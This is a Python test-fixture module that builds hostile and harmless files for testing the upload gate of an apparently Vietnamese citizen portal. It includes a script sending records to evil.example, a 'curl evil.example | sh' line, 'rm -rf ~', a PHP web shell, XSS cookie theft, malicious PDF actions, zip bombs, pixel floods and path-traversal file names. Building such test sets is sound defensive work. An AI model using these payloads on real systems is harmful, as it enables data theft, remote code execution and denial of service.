"""Hostile and honest files for the upload gate, built in memory (nothing harmful is stored in the
repository: the executables are headers only, the EICAR string is the industry's harmless test file).

`HOSTILE` is a list of (case id, bytes, file name as the browser sends it); `honest()` the controls.
"""
from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

EICAR = rb'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
ROOT = Path(__file__).resolve().parents[2]


# ---------------------------------------------------------------- builders

def make_pdf(objects: list[bytes], *, version: bytes = b'1.4', trailer_extra: bytes = b'', after: bytes = b'') -> bytes:
    """A well-formed PDF: numbered objects, a cross-reference table, a trailer, %%EOF; `after`
    is appended behind %%EOF (what polyglots do)."""
    out, offsets = b'%PDF-' + version + b'\n%\xe2\xe3\xcf\xd3\n', []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f'{number} 0 obj\n'.encode() + body + b'\nendobj\n'
    xref = len(out)
    out += f'xref\n0 {len(objects) + 1}\n0000000000 65535 f \n'.encode()
    out += b''.join(f'{offset:010d} 00000 n \n'.encode() for offset in offsets)
    out += f'trailer\n<< /Size {len(objects) + 1} /Root 1 0 R '.encode() + trailer_extra
    out += f'>>\nstartxref\n{xref}\n%%EOF\n'.encode()
    return out + after


def stream(content: bytes, dictionary: bytes = b'', *, compress: bool = False) -> bytes:
    if compress:
        content = zlib.compress(content)
        dictionary += b' /Filter /FlateDecode'
    return b'<< /Length ' + str(len(content)).encode() + dictionary + b' >>\nstream\n' + content + b'\nendstream'


def page_objects(catalog_extra: bytes = b'', page_extra: bytes = b'', text: bytes = b'Giay to so 1') -> list[bytes]:
    return [b'<< /Type /Catalog /Pages 2 0 R ' + catalog_extra + b'>>',
            b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
            b'/Resources << /Font << /F1 5 0 R >> >> ' + page_extra + b'>>',
            stream(b'BT /F1 14 Tf 72 720 Td (' + text + b') Tj ET', compress=True),
            b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']


def simple_pdf(**kwargs) -> bytes:
    return make_pdf(page_objects(**kwargs))


def object_stream_pdf(hidden: bytes, *, compress: bool = True, filters: bytes | None = None) -> bytes:
    """PDF 1.5: object 6 lives inside a compressed object stream (object 7), where dictionaries
    hide from a scanner that reads only the file's bytes."""
    header = b'6 0 '
    body = header + hidden
    dictionary = b' /Type /ObjStm /N 1 /First ' + str(len(header)).encode()
    if filters is not None:
        data = body.hex().encode() + b'>'
        obj = b'<< /Length ' + str(len(data)).encode() + dictionary + b' /Filter ' + filters + b' >>\nstream\n' \
            + data + b'\nendstream'
    else:
        obj = stream(body, dictionary, compress=compress)
    objects = page_objects(catalog_extra=b'/OpenAction 6 0 R ')
    objects.append(b'null')  # object 6 is a placeholder: its real body is in the object stream
    objects.append(obj)
    return make_pdf(objects, version=b'1.5')


def zip_bytes(members: dict[str, bytes], *, comment: bytes = b'', method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', compression=method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.comment = comment
    return buffer.getvalue()


def zip_bomb(members: int = 10, member_bytes: int = 50 * 1024 * 1024) -> bytes:
    """Ten members of 50 MB of zeros each (500 MB unpacked) in about 0.5 MB; the deflated data is
    made once and shared by the members, as a hand-made bomb would."""
    global _BOMB
    if _BOMB is None:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = packer.compress(bytes(member_bytes)) + packer.flush()
        crc = zlib.crc32(bytes(member_bytes))
        local, central = b'', b''
        for i in range(members):
            name = f'lop-{i}.bin'.encode()
            header = struct.pack('<4sHHHHHIIIHH', b'PK\x03\x04', 20, 0, 8, 0, 0x21, crc, len(deflated),
                                 member_bytes, len(name), 0)
            central += struct.pack('<4sHHHHHHIIIHHHHHII', b'PK\x01\x02', 20, 20, 0, 8, 0, 0x21, crc,
                                   len(deflated), member_bytes, len(name), 0, 0, 0, 0, 0, len(local)) + name
            local += header + name + deflated
        end = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, members, members, len(central), len(local), 0)
        _BOMB = local + central + end
    return _BOMB


_BOMB: bytes | None = None


def elf_header() -> bytes:
    """A 64-bit little-endian ELF header for x86-64 (an executable's first 64 bytes), then padding."""
    ident = b'\x7fELF\x02\x01\x01\x00' + bytes(8)
    return ident + struct.pack('<HHIQQQIHHHHHH', 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(512)


def pe_header() -> bytes:
    """A Windows PE: DOS header pointing at the PE header, the DOS stub text, the COFF header."""
    dos = bytearray(b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + bytes(44))
    dos += struct.pack('<I', 0x80)
    stub = b'\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$'
    body = bytes(dos) + stub
    body += bytes(0x80 - len(body))
    return body + b'PE\x00\x00' + struct.pack('<HHIIIHH', 0x8664, 1, 0, 0, 0, 0xF0, 0x22) + bytes(512)


def pe_without_stub() -> bytes:
    """A PE whose DOS header is not the usual one (no stub text): found by its PE header."""
    dos = b'MZ' + bytes(58) + struct.pack('<I', 64)
    return dos + b'PE\x00\x00' + struct.pack('<HHIIIHH', 0x014C, 1, 0, 0, 0, 0xE0, 0x102) + bytes(256)


def noise_image(fmt: str, size: tuple[int, int] = (320, 240), **save) -> bytes:
    from PIL import Image

    rng = random.Random(f'{fmt}{size}')
    image = Image.frombytes('RGB', size, rng.randbytes(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **save)
    return buffer.getvalue()


def jpeg() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = 'Canon'  # Make
    exif[0x0110] = 'CanoScan LiDE 300'  # Model
    return noise_image('JPEG', quality=85, exif=exif.tobytes())


def png() -> bytes:
    return noise_image('PNG')


def jpeg_with_segment(payload: bytes, marker: int = 0xFE) -> bytes:
    """A real JPEG with a comment (COM) or application segment inserted after SOI; it still ends with EOI."""
    image = jpeg()
    segment = bytes([0xFF, marker]) + struct.pack('>H', len(payload) + 2) + payload
    return image[:2] + segment + image[2:]


def png_with_chunk(kind: bytes, payload: bytes) -> bytes:
    image = png()
    chunk = struct.pack('>I', len(payload)) + kind + payload + struct.pack('>I', zlib.crc32(kind + payload))
    return image[:33] + chunk + image[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


def png_pixel_flood(width: int = 100_000, height: int = 100_000) -> bytes:
    """A valid PNG header claiming 10 gigapixels, a few kilobytes of compressed zeros: a viewer
    that opens it allocates 30 GB."""
    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack('>I', len(payload)) + kind + payload + struct.pack('>I', zlib.crc32(kind + payload))
    raw = zlib.compressobj(9)
    data = raw.compress(bytes(width + 1) * 64) + raw.flush()
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0))
            + chunk(b'IDAT', data) + chunk(b'IEND', b''))


def jpeg_pixel_flood() -> bytes:
    """A JPEG whose frame header (SOF0) claims 65,500 x 65,500 pixels."""
    image = bytearray(jpeg())
    index = image.find(b'\xff\xc0')
    struct.pack_into('>HH', image, index + 5, 65_500, 65_500)
    return bytes(image)


def fpdf_document() -> bytes:
    """A PDF as office software makes it: embedded TrueType fonts, Vietnamese text, a JPEG and a PNG."""
    from fpdf import FPDF

    fonts = ROOT / 'domain' / 'data' / 'fonts'
    pdf = FPDF()
    pdf.add_font('DejaVu', '', str(fonts / 'DejaVuSans.ttf'))
    pdf.add_page()
    pdf.set_font('DejaVu', '', 12)
    pdf.multi_cell(0, 8, 'Đơn đề nghị cấp đổi giấy phép lái xe. Họ và tên: Nguyễn Thị Hồng. Nơi cư trú: Hà Nội.')
    pdf.image(io.BytesIO(jpeg()), x=10, y=40, w=80)
    pdf.image(io.BytesIO(png()), x=100, y=40, w=80)
    return bytes(pdf.output())


def honest() -> list[tuple[str, bytes, str]]:
    """What citizens and officers really upload: each must still be accepted."""
    benign_object_stream = object_stream_pdf(b'<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>')
    with_form = make_pdf(page_objects(catalog_extra=b'/AcroForm << /Fields [] >> /OpenAction [3 0 R /FitH null] '))
    return [
        ('pdf: office document with fonts and images', fpdf_document(), 'Don de nghi.pdf'),
        ('pdf: minimal, one page', simple_pdf(), 'giay-to.pdf'),
        ('pdf: 1.5 with an object stream', benign_object_stream, 'ban-sao.PDF'),
        ('pdf: fill-in form opening at page 1', with_form, 'to-khai.pdf'),
        ('jpeg: scanner photo with EXIF', jpeg(), 'anh-chup.jpg'),
        ('jpeg: .jpeg extension', noise_image('JPEG', (64, 64)), 'cccd mat truoc.jpeg'),
        ('png: screenshot of the portal', (ROOT / 'docs' / 'screenshots' / 'home.png').read_bytes(), 'home.png'),
        ('png: generated', png(), 'Ảnh chụp giấy tờ.png'),
    ]


# ---------------------------------------------------------------- the hostile set

def _hostile() -> list[tuple[str, bytes, str]]:
    good = simple_pdf()
    zip_polyglot = good + zip_bytes({'payload.exe': pe_header()}, comment=b'\n%%EOF\n')
    jar = zip_bytes({'META-INF/MANIFEST.MF': b'Manifest-Version: 1.0\nMain-Class: Evil\n',
                     'Evil.class': b'\xca\xfe\xba\xbe' + bytes(64)}, comment=b'\n%%EOF\n')
    # local ZIP members only (no end record): what streaming readers such as Java's ZipInputStream accept
    members_only = zip_bytes({'run.sh': b'#!/bin/sh\nrm -rf ~\n'}, method=zipfile.ZIP_STORED)
    members_only = members_only[:members_only.find(b'PK\x01\x02')]
    script = b'<script>fetch("/api/v1/records").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script>'
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
    html = b'<!DOCTYPE html><html><body><img src=x onerror="alert(1)"></body></html>'
    cases = [
        # executables renamed
        ('ELF executable renamed .pdf', elf_header(), 'hoa-don.pdf'),
        ('Windows PE renamed .pdf', pe_header(), 'hoa-don.pdf'),
        ('Windows PE renamed .jpg', pe_header(), 'anh.jpg'),
        ('ELF inside a valid PDF', good.replace(b'%%EOF', b'') + elf_header() + b'\n%%EOF\n', 'giay-to.pdf'),
        ('PE inside a PDF stream', make_pdf(page_objects() + [stream(pe_header())]), 'giay-to.pdf'),
        ('PE without DOS stub inside a JPEG comment', jpeg_with_segment(pe_without_stub()), 'anh.jpg'),
        # polyglots
        ('PDF that is also a ZIP', zip_polyglot, 'giay-to.pdf'),
        ('PDF that is also a JAR', good + jar, 'giay-to.pdf'),
        ('PDF with ZIP members and no end record', make_pdf(page_objects() + [stream(members_only)]), 'a.pdf'),
        ('JPEG with a trailing ZIP', jpeg() + zip_bytes({'x.js': b'alert(1)'}), 'anh.jpg'),
        ('JPEG with a ZIP inside a comment', jpeg_with_segment(zip_bytes({'x.js': b'alert(1)'})), 'anh.jpg'),
        ('JPEG with a trailing script', jpeg() + script, 'anh.jpg'),
        ('JPEG with a trailing ZIP whose comment ends in EOI',
         jpeg() + zip_bytes({'x.js': b'alert(1)'}, comment=b'\xff\xd9'), 'anh.jpg'),
        ('JPEG with a trailing script that ends in EOI', jpeg() + script + b'\xff\xd9', 'anh.jpg'),
        ('PNG with a trailing script that ends in IEND', png() + script + b'\x00\x00\x00\x00IEND\xaeB`\x82',
         'anh.png'),
        ('JPEG with a script in a comment', jpeg_with_segment(script), 'anh.jpg'),
        ('JPEG with mixed-case script in EXIF', jpeg_with_segment(b'Exif\x00\x00<ScRiPt>alert(1)</sCrIpT>', 0xE1),
         'anh.jpg'),
        ('JPEG with PHP in a comment', jpeg_with_segment(b'<?php system($_GET["c"]); ?>'), 'anh.jpg'),
        ('PNG with HTML in a text chunk', png_with_chunk(b'tEXt', b'Comment\x00' + html), 'anh.png'),
        ('PNG with a trailing script', png() + script, 'anh.png'),
        ('PDF with /JavaScript', simple_pdf(catalog_extra=b'/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '),
         'giay-to.pdf'),
        ('PDF with a /JS key only', simple_pdf(page_extra=b'/AA << /O << /S /Foo /JS 9 0 R >> >> '), 'giay-to.pdf'),
        ('PDF with /Launch', simple_pdf(catalog_extra=b'/OpenAction << /S /Launch /F (cmd.exe) >> '), 'giay-to.pdf'),
        ('PDF with a hex-escaped /J#61vaScript',
         simple_pdf(catalog_extra=b'/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> '), 'giay-to.pdf'),
        ('PDF with a hex-escaped /L#61unch', simple_pdf(catalog_extra=b'/OpenAction << /S /L#61unch /F (x) >> '),
         'giay-to.pdf'),
        ('PDF with JavaScript hidden in a compressed object stream',
         object_stream_pdf(b'<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>'), 'giay-to.pdf'),
        ('PDF with Launch hidden in an object stream behind ASCIIHex',
         object_stream_pdf(b'<< /S /Launch /F (x) >>', filters=b'/ASCIIHexDecode'), 'giay-to.pdf'),
        ('PDF with an embedded file', simple_pdf(catalog_extra=b'/Names << /EmbeddedFiles << /Names [] >> >> '),
         'giay-to.pdf'),
        ('PDF with a javascript: link', simple_pdf(page_extra=b'/Annots [<< /Subtype /Link /A << /S /URI '
                                                   b'/URI (javascript:alert(1)) >> >>] '), 'giay-to.pdf'),
        ('PDF with a form that submits itself', simple_pdf(catalog_extra=b'/OpenAction << /S /SubmitForm '
                                                           b'/F (https://evil.example/) >> '), 'giay-to.pdf'),
        ('PDF that is also HTML', good.replace(b'%%EOF', b'') + html + b'\n%%EOF\n', 'giay-to.pdf'),
        ('PDF with a RAR archive inside', make_pdf(page_objects() + [stream(b'Rar!\x1a\x07\x01\x00' + bytes(64))]),
         'a.pdf'),
        ('PDF with a 7z archive inside', make_pdf(page_objects() + [stream(b"7z\xbc\xaf'\x1c\x00\x04" + bytes(64))]),
         'a.pdf'),
        ('PDF header after HTML', html + b'\n' + good, 'giay-to.pdf'),
        ('HTML renamed .png', html, 'anh.png'),
        ('SVG renamed .png', svg, 'anh.png'),
        ('SVG renamed .pdf', svg, 'giay-to.pdf'),
        ('GIF renamed .png', noise_image('GIF', (32, 32)), 'anh.png'),
        ('BMP renamed .jpg', noise_image('BMP', (32, 32)), 'anh.jpg'),
        ('TIFF renamed .pdf', noise_image('TIFF', (32, 32)), 'scan.pdf'),
        ('shell script renamed .pdf', b'#!/bin/sh\ncurl evil.example | sh\n%%EOF\n', 'giay-to.pdf'),
        # bombs
        ('zip bomb renamed .pdf', zip_bomb(), 'giay-to.pdf'),
        ('zip bomb inside a PDF', good + zip_bomb() + b'\n%%EOF\n', 'giay-to.pdf'),
        ('PDF object stream that inflates to 64 MB', object_stream_pdf(bytes(64 * 1024 * 1024)), 'giay-to.pdf'),
        ('PNG claiming 100,000 x 100,000 pixels', png_pixel_flood(), 'anh.png'),
        ('JPEG claiming 65,500 x 65,500 pixels', jpeg_pixel_flood(), 'anh.jpg'),
        # test virus, empty
        ('EICAR test file renamed .pdf', EICAR, 'giay-to.pdf'),
        ('EICAR inside a PDF', make_pdf(page_objects() + [stream(EICAR)]), 'giay-to.pdf'),
        ('EICAR inside a JPEG comment', jpeg_with_segment(EICAR), 'anh.jpg'),
        ('empty file', b'', 'giay-to.pdf'),
        # names no browser sends (the content is a good PDF)
        ('name ../../etc/passwd.pdf', good, '../../etc/passwd.pdf'),
        ('name ..\\..\\x.pdf', good, '..\\..\\x.pdf'),
        ('absolute POSIX path', good, '/etc/passwd.pdf'),
        ('absolute Windows path', good, 'C:\\Windows\\System32\\x.pdf'),
        ('drive-relative Windows path', good, 'C:x.pdf'),
        ('NUL byte in the name', good, 'giay-to.pdf\x00.exe'),
        ('newline in the name', good, 'giay-to\r\nX-Injected: 1.pdf'),
        ('name of 300 characters', good, 'a' * 296 + '.pdf'),
        ('RTL override evil\u202egpj.exe', good, 'evil\u202egpj.exe'),
        ('RTL override in a PDF name', good, 'hoa-don\u202efdp.exe'),
        ('name ..', good, '..'),
    ]
    return cases


_CACHE: list | None = None


def hostile() -> list[tuple[str, bytes, str]]:
    global _CACHE
    if _CACHE is None:
        _CACHE = _hostile()
    return _CACHE


def oversize(limit: int) -> tuple[str, bytes, str]:
    """A valid PDF one byte over the limit."""
    padding = limit
    while len(body := make_pdf(page_objects() + [stream(b'0' * padding)])) != limit + 1:
        padding -= len(body) - (limit + 1)
    return 'valid PDF one byte over the limit', body, 'lon.pdf'
